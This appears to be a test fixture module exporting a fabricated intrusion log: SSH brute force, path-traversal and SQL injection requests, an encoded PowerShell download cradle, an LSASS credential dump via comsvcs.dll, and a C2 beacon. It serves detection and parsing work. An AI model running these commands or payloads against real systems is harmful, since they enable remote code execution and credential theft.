/** A made-up intrusion: web shell probe, guessed password, credential theft, beacon. Addresses are documentation ranges. */
export const sampleLog = `Nov 12 02:13:41 web-01 sshd[2211]: Failed password for root from 203.0.113.77 port 51822 ssh2
Nov 12 02:13:43 web-01 sshd[2211]: Failed password for root from 203.0.113.77 port 51824 ssh2
Nov 12 02:13:45 web-01 sshd[2211]: Failed password for root from 203.0.113.77 port 51826 ssh2
Nov 12 02:13:48 web-01 sshd[2213]: Failed password for deploy from 203.0.113.77 port 51830 ssh2
Nov 12 02:13:51 web-01 sshd[2213]: Failed password for deploy from 203.0.113.77 port 51832 ssh2
Nov 12 02:14:02 web-01 sshd[2215]: Accepted password for deploy from 203.0.113.77 port 51840 ssh2
203.0.113.77 - - [12/Nov/2026:02:15:09 +0800] "GET /index.php?page=../../../../etc/passwd HTTP/1.1" 200 1841 "-" "sqlmap/1.8"
203.0.113.77 - - [12/Nov/2026:02:15:31 +0800] "GET /products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1" 200 9120 "-" "sqlmap/1.8"
{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"FIN-07","User":"CORP\\\\aina","Image":"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe","CommandLine":"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIAMwAvAGEALgBwAHMAMQAnACkA","ParentImage":"C:\\\\Program Files\\\\Microsoft Office\\\\root\\\\Office16\\\\WINWORD.EXE"}
{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"FIN-07","User":"CORP\\\\aina","Image":"C:\\\\Windows\\\\System32\\\\rundll32.exe","CommandLine":"rundll32.exe C:\\\\Windows\\\\System32\\\\comsvcs.dll, MiniDump 624 C:\\\\Users\\\\Public\\\\l.dmp full"}
{"EventID":3,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"FIN-07","Image":"C:\\\\Users\\\\Public\\\\svchost.exe","DestinationIp":"198.51.100.23","DestinationPort":443,"DestinationHostname":"cdn-update.example"}
Analyst note: beacon to hxxps://cdn-update[.]example/ping every 60 s, sample sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08
`;
